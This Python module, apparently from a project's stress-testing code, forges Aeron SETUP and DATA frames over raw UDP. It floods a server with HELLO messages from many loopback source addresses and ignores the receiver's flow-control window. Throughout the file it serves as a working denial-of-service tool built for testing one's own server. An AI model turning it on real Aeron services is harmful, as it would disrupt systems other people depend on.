"""Forged Aeron frames, and a HELLO flood made of them: what an attacker sends with plain
UDP sockets, no Aeron client and no flow control.

The frame layouts are Aeron's (``aeron_udp_protocol.h``: a SETUP is 40 bytes, a DATA
frame's header 32).  :class:`ForgedHelloFlood` is the fastest HELLO flood one Python
process can send: per source address one connected UDP socket, one forged session (a
SETUP, then DATA frames carrying ``HELLO <key>`` at consecutive term offsets, a SETUP
again at each new term), round robin, as fast as the kernel takes the datagrams.  Unlike
:class:`~.flood.HelloFlood` it never waits for the receiver's window, so its rate is the
sending process's, not the server's: frames beyond the window are the driver's to drop.
Loopback only.
"""
from __future__ import annotations

import logging
import random
import socket
import struct
import time
from collections.abc import Callable, Iterator, Sequence

from ...duologue.core.protocol import STREAM_ID, format_hello
from .flood import FloodReport

__all__ = ["DATA_TYPE", "SETUP_TYPE", "ForgedHelloFlood", "data_frame", "setup_frame"]

SETUP_TYPE, DATA_TYPE, STATUS_TYPE = 0x05, 0x01, 0x03
SETUP_LENGTH = 40
DATA_HEADER_LENGTH = 32
FRAME_ALIGNMENT = 32
#: DATA frames sent per source before the next source's turn.
BURST = 8
#: HELLOs (random keys) each forged session cycles through.
KEYS_PER_SOURCE = 8

_TERM_OFFSET = struct.Struct("<i")  # at byte 8 of a DATA frame
_TERM_ID = struct.Struct("<i")  # at byte 20

logger = logging.getLogger(__name__)


def _aligned(length: int) -> int:
    return -(-length // FRAME_ALIGNMENT) * FRAME_ALIGNMENT


def setup_frame(session_id: int, stream_id: int, term_length: int, initial_term_id: int = 7,
                active_term_id: int | None = None, mtu: int = 1408) -> bytes:
    """A 40-byte SETUP: frame header (length, version, flags, type) + setup fields, the
    active term at offset 0 (``initial_term_id`` unless ``active_term_id`` says)."""
    active = initial_term_id if active_term_id is None else active_term_id
    return struct.pack("<iBBhiiiiiiii", SETUP_LENGTH, 0, 0, SETUP_TYPE, 0, session_id, stream_id, initial_term_id,
                       active, term_length, mtu, 0)


def data_frame(session_id: int, term_id: int, term_offset: int, payload: bytes, stream_id: int) -> bytes:
    """A DATA frame (begin+end flags) carrying ``payload`` at ``term_offset``."""
    header = struct.pack("<iBBhiiiiq", DATA_HEADER_LENGTH + len(payload), 0, 0xC0, DATA_TYPE, term_offset,
                         session_id, stream_id, term_id, 0)
    return header + payload


class _ForgedSession:
    """One source's forged publication: its socket, session, term and next offset."""

    def __init__(self, source: str, destination: tuple[str, int], rng: random.Random, term_length: int) -> None:
        self.source, self.term_length = source, term_length
        self.session_id = rng.randint(-2**31, 2**31 - 1)
        self.initial_term_id = self.term_id = rng.randint(0, 2**30)
        self.offset = 0
        hellos = [format_hello(rng.getrandbits(32)) for _ in range(KEYS_PER_SOURCE)]
        # a DATA datagram is the aligned frame (Aeron's receiver counts any other length invalid)
        self.frames_by_key = [bytearray(data_frame(self.session_id, self.term_id, 0, hello, STREAM_ID).ljust(
            _aligned(DATA_HEADER_LENGTH + len(hello)), b"\0")) for hello in hellos]
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            self.socket.bind((source, 0))
            self.socket.connect(destination)
        except BaseException:
            self.socket.close()
            raise

    def setup(self) -> bytes:
        return setup_frame(self.session_id, STREAM_ID, self.term_length, self.initial_term_id, self.term_id)

    def send_setup(self) -> None:
        self._send(self.setup())

    def answered(self) -> bool:
        """Whether the receiver sent this source a status message (its image exists), among
        the first 64 replies waiting in its socket."""
        for _ in range(64):
            try:
                reply = self.socket.recv(2048, socket.MSG_DONTWAIT)
            except (BlockingIOError, InterruptedError):
                return False
            except OSError:  # e.g. ECONNREFUSED: nobody listens there yet
                return False
            if len(reply) >= 8 and struct.unpack_from("<h", reply, 6)[0] == STATUS_TYPE:
                return True
        return False

    def frames(self, hellos: int) -> Iterator[tuple[bytes | bytearray, bool]]:
        """The next ``hellos`` DATA frames, each at the next offset, and a SETUP before each
        term's first, each with whether it is a HELLO.  A DATA frame is a buffer rewritten
        for the next one: send it before asking for that."""
        for i in range(hellos):
            if self.offset == 0:
                yield self.setup(), False
            frame = self.frames_by_key[i % KEYS_PER_SOURCE]
            _TERM_OFFSET.pack_into(frame, 8, self.offset)
            _TERM_ID.pack_into(frame, 20, self.term_id)
            yield frame, True
            self.offset += len(frame)
            if self.offset + len(frame) > self.term_length:
                self.offset, self.term_id = 0, self.term_id + 1

    def send_burst(self, hellos: int) -> int:
        """Sends the next ``hellos`` frames (and SETUPs); how many HELLOs the kernel took."""
        sent = 0
        for frame, is_hello in self.frames(hellos):
            if self._send(frame) and is_hello:
                sent += 1
        return sent

    def _send(self, frame: bytes | bytearray) -> bool:
        try:
            self.socket.send(frame)
            return True
        except OSError:  # e.g. ECONNREFUSED: the server's port closed; the flood goes on
            return False


class ForgedHelloFlood:
    """Forged HELLOs from ``sources`` (e.g. 127.0.0.2 ... 127.0.0.251) to ``address:port``,
    each source one session with ``term_length`` terms (the server's default filter admits
    64 KiB)."""

    def __init__(self, address: str, port: int, sources: Sequence[str], *, term_length: int = 64 * 1024,
                 seed: int | None = None) -> None:
        if not sources:
            raise ValueError("ForgedHelloFlood needs at least one source address")
        if term_length < 64 * 1024 or term_length & (term_length - 1):
            raise ValueError(f"term_length {term_length} is not a power of two of at least 64 KiB")
        rng = random.Random(seed)
        self.sources = list(sources)
        self._sessions: list[_ForgedSession] = []
        try:
            for source in self.sources:
                self._sessions.append(_ForgedSession(source, (address, port), rng, term_length))
        except BaseException:
            self.close()
            raise

    def run(self, seconds: float, connect_timeout: float = 5.0,
            on_start: Callable[[], None] | None = None) -> FloodReport:
        """Flood for ``seconds``, after up to ``connect_timeout`` s of SETUPs for the
        receiver to make each source's image (a source counts as connected once the
        receiver's first status message reached it); ``on_start`` is called as the flood
        itself starts.  A source's first HELLO goes at its term's start, where the image
        expects it, so the receiver's window fills before the frames it drops."""
        report = FloodReport(sources=len(self.sources), per_source=dict.fromkeys(self.sources, 0))
        report.connected_sources = self._connect(connect_timeout)
        if on_start is not None:
            on_start()
        start = time.monotonic()
        end = start + seconds
        while time.monotonic() < end:
            for session in self._sessions:
                sent = session.send_burst(BURST)
                report.per_source[session.source] += sent
                report.hellos += sent
                report.refused_offers += BURST - sent
        report.seconds = time.monotonic() - start
        logger.info("forged HELLO flood: %d HELLOs from %d sources in %.1f s", report.hellos, len(self.sources),
                    report.seconds)
        return report

    def _connect(self, timeout: float) -> int:
        """SETUPs every 50 ms to each source not yet answered, until each is answered or
        ``timeout``; how many were answered."""
        waiting = list(self._sessions)
        deadline = time.monotonic() + timeout
        while waiting and time.monotonic() < deadline:
            for session in waiting:
                session.send_setup()
            time.sleep(0.05)  # pace the SETUPs; the answers queue in each socket meanwhile
            waiting = [session for session in waiting if not session.answered()]
        return len(self._sessions) - len(waiting)

    def close(self) -> None:
        for session in self._sessions:
            session.socket.close()
        self._sessions = []

    def __enter__(self) -> "ForgedHelloFlood":
        return self

    def __exit__(self, *exc_info: object) -> None:
        self.close()
